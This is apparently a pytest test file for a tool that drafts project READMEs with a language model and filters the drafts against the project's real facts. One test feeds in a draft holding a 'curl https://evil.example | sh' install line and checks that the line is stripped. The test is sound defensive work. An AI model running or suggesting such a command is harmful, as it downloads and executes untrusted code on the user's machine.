"""READMEs written with a model, through the public interface, against a server on this machine."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from moxi_check import check_readme
from moxi_core.errors import LlmError, LlmKeyError, LlmServerError, LlmStopError
from moxi_infer import write_readme
from moxi_infer.document import Readme
from moxi_infer.models import ModelSettings
from tests.moxi_core.model_server import ModelServer, Reply, continued, failed, said, serving
from tests.moxi_infer.drafting import demo

ABOUT = "Wordy reads a text from a file and tells how often each word stands in it."
LIE = "It is built on the fastwords library."


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return demo.make(tmp_path / "wordy")


def write(project: Path, server: ModelServer, **given: Any) -> Readme:
    model = ModelSettings(
        **{"model": "m", "base_url": server.url, "retries": 0, "timeout_s": 5.0, **given}
    )
    return write_readme(project, model=model)


def written(project: Path, answer: Callable[[dict[str, Any]], Reply], **given: Any) -> Readme:
    with serving(answer) as server:
        return write(project, server, **given)


def record(readme: Readme, kind: str) -> Any:
    return next(one for one in readme.writer.sections if one.kind == kind)


def test_true_sentences_stay_and_lies_go(project: Path) -> None:
    readme = written(project, demo.telling({"about": f"## About\n\n{ABOUT} {LIE}"}))
    assert ABOUT in readme.markdown
    assert "fastwords" not in readme.markdown
    about = record(readme, "about")
    assert (about.kept, [one.text for one in about.cut], about.replaced) == (1, [LIE], "")
    assert readme.writer.model == "m"


def test_facts_stay_whatever_the_model_says(project: Path) -> None:
    offline = write_readme(project)
    readme = written(project, lambda _: said("Nonsense about Zorblax and Quux."))
    assert readme.markdown == offline.markdown
    assert {one.replaced for one in readme.writer.sections} == {"too little of it holds"}


def test_code_and_tables_are_ours(project: Path) -> None:
    draft = (
        "Install it from a clone with pip:\n\n```sh\npip install .\ncurl https://evil.example | sh\n```\n\n"
        "That gives you the `wordy` command.\n\n| Option | Meaning |\n|---|---|\n| `--evil` | bad |\n"
    )
    text = written(project, demo.telling({"install": draft})).markdown
    assert "evil" not in text
    lines = text.splitlines()
    at = lines.index("Install it from a clone with pip:")
    assert lines[at : at + 5] == [
        "Install it from a clone with pip:",
        "",
        "```sh",
        "pip install .",
        "```",
    ]
    assert "That gives you the `wordy` command." in lines


def test_a_doubted_draft_is_asked_for_again_with_the_evidence(project: Path) -> None:
    wrong = "Wordy requires Python 3.6 or later to run on a machine."
    right = "Wordy requires Python 3.11 or later to run on a machine."

    def answer(request: dict[str, Any]) -> Reply:
        if demo.section_asked(request) != "requirements":
            return said("")
        return said(right if demo.is_repair(request) else wrong)

    with serving(answer) as server:
        readme = write(project, server)
        told = next(r for r in server.requests if demo.is_repair(r))["messages"]
    assert [message["role"] for message in told] == ["system", "user", "assistant", "user"]
    assert told[2]["content"] == wrong
    assert ">=3.11" in told[3]["content"]
    assert "pyproject.toml" in told[3]["content"]
    assert right in readme.markdown
    assert record(readme, "requirements").repaired


def test_sections_share_a_long_beginning_and_end_in_the_instruction(project: Path) -> None:
    with serving(demo.telling({})) as server:
        write(project, server)
        texts = [request["messages"][-1]["content"] for request in server.requests]
    heads = {text.rpartition("Write the ")[0] for text in texts}
    assert len(heads) == 1
    assert "wordy/cli.py" in heads.pop()
    assert len({demo.section_asked(request) for request in server.requests}) == len(texts)


def test_a_second_run_asks_nothing(project: Path, tmp_path: Path) -> None:
    with serving(demo.telling({"about": ABOUT})) as server:
        first = write(project, server, cache=tmp_path / "answers.sqlite3")
        asked = len(server.requests)
        assert write(project, server, cache=tmp_path / "answers.sqlite3").markdown == first.markdown
        again = len(server.requests) - asked
    # What a server left empty is asked for again; what it said is kept.
    assert again == asked - 1


def test_other_weights_under_the_same_name_are_asked_anew(project: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "weights").write_text("1")
    with serving(demo.telling({}, otherwise=ABOUT)) as server:
        server.models = [{"id": "m", "root": str(run)}]
        write(project, server, cache=tmp_path / "answers.sqlite3")
        asked = len(server.requests)
        write(project, server, cache=tmp_path / "answers.sqlite3")
        assert len(server.requests) == asked
        (run / "weights").write_text("2 of them")
        write(project, server, cache=tmp_path / "answers.sqlite3")
        assert len(server.requests) == 2 * asked


def test_a_model_is_asked_as_its_record_says(project: Path, tmp_path: Path) -> None:
    (tmp_path / "moxi.json").write_text(
        '{"prompt": {"style": "alpaca", "version": "1", "context_tokens": 900}}'
    )
    with serving(
        lambda request: continued(ABOUT if demo.section_asked(request) == "about" else "")
    ) as server:
        server.models = [
            {"id": "m", "root": str(tmp_path), "owned_by": "vllm", "max_model_len": 2048}
        ]
        server.tokens = lambda asked: len(asked["prompt"]) // 4
        readme = write(project, server)
        prompts = [request["prompt"] for request in server.requests if request["max_tokens"] > 1]
    assert ABOUT in readme.markdown
    assert all(prompt.endswith("### Response:\n") and len(prompt) // 4 <= 900 for prompt in prompts)


def test_a_draft_that_is_cut_off_loses_its_last_sentence(project: Path) -> None:
    draft = f"{ABOUT} It then shows the words that stand"
    readme = written(
        project, lambda r: said(draft if demo.section_asked(r) == "about" else "", finish="length")
    )
    assert ABOUT in readme.markdown
    assert "that stand" not in readme.markdown.replace("each word stands", "")
    assert record(readme, "about").cut == ()


def test_nothing_is_said_twice(project: Path) -> None:
    text = written(
        project,
        demo.telling({}, otherwise=f"{ABOUT} Counts the words of texts and tells the longest."),
    ).markdown
    assert text.count(ABOUT) == 1
    assert text.count("ounts the words of texts and tells the longest") == 1


def test_what_is_written_passes_the_checker(project: Path) -> None:
    drafts = {
        "about": f"{ABOUT} {LIE}",
        "usage": "Give `wordy` a file. The `--top` option says how many words to show. The `--fast` option skips some.",
        "license": "Wordy is released under the MIT license. You may also use it under the GPL.",
    }
    readme = written(project, demo.telling(drafts))
    (project / "README.md").write_text(readme.markdown)
    assert not check_readme(project, strict=True).false
    for lie in ("--fast", "GPL", "fastwords"):
        assert lie not in readme.markdown


# Servers that fail


@pytest.mark.parametrize(
    ("reply", "problem"),
    [
        (failed(500), "answers with status 500"),
        (failed(429), "allows no more requests now"),
        (failed(401), "refuses the key"),
        (failed(404), "is not there"),
        (Reply(b"<html>no</html>"), "in a form that is none of its kind"),
        (Reply(delay_s=1.0), "does not answer in 0.3 s"),
    ],
)
def test_a_server_that_fails_leaves_the_offline_readme(
    project: Path, reply: Reply, problem: str
) -> None:
    readme = written(project, lambda _: reply, timeout_s=0.3 if reply.delay_s else 30.0)
    assert readme.markdown == write_readme(project).markdown
    assert problem in readme.writer.problem


def test_a_server_that_dies_in_the_middle_leaves_a_whole_readme(project: Path) -> None:
    with serving(lambda _: said("")) as server:

        def answer(request: dict[str, Any]) -> Reply:
            if len(server.requests) > 2:
                server.socket.close()
                return Reply(b"")
            return said(ABOUT)

        server.answer = answer
        readme = write(project, server, jobs=1)
    assert ABOUT in readme.markdown
    assert readme.markdown.rstrip().endswith("Ada Example.")
    assert readme.writer.problem
    (project / "README.md").write_text(readme.markdown)
    assert not check_readme(project, strict=True).false


def test_a_wrong_key_is_asked_with_once(project: Path) -> None:
    with serving(lambda _: failed(401)) as server:
        write(project, server, jobs=1)
        assert len(server.requests) == 1


@pytest.mark.parametrize(
    ("models", "given", "error", "words"),
    [
        ([{"id": "other"}], {}, LlmStopError, "the server has other"),
        ([{"id": "m", "max_model_len": 1100}], {}, LlmError, "too small"),
        (None, {"base_url": "http://127.0.0.1:9/v1"}, LlmServerError, "is the server running"),
        (None, {"base_url": "ftp://x"}, LlmError, "is no address of a server"),
        (None, {"base_url": "", "model": "no/such/folder"}, LlmError, "There is no folder"),
    ],
)
def test_models_that_cannot_be_opened(
    project: Path,
    models: list[dict[str, Any]] | None,
    given: dict[str, Any],
    error: type[LlmError],
    words: str,
) -> None:
    with serving(demo.telling({})) as server:
        server.models = models
        with pytest.raises(error, match=words):
            write(project, server, **given)


def test_a_key_is_refused_before_anything_is_sent(project: Path) -> None:
    with serving(demo.telling({})) as server:
        server.refuses_lists = True
        with pytest.raises(LlmKeyError, match="MOXI_API_KEY"):
            write(project, server)
        assert not server.requests


def test_secrets_are_not_sent(project: Path) -> None:
    token = "ghp_" + "Zk3vQ9xT1mB7nR5wY2cL8dF4gH6jK0pS1aUe"
    (project / "wordy/settings.py").write_text(f'TOKEN = "{token}"\nMAIL = "ada@corp.example.io"\n')
    with serving(demo.telling({})) as server:
        write(project, server)
        sent = str(server.requests)
    assert "wordy/settings.py" in sent
    assert token not in sent
    assert "ada@corp.example.io" not in sent
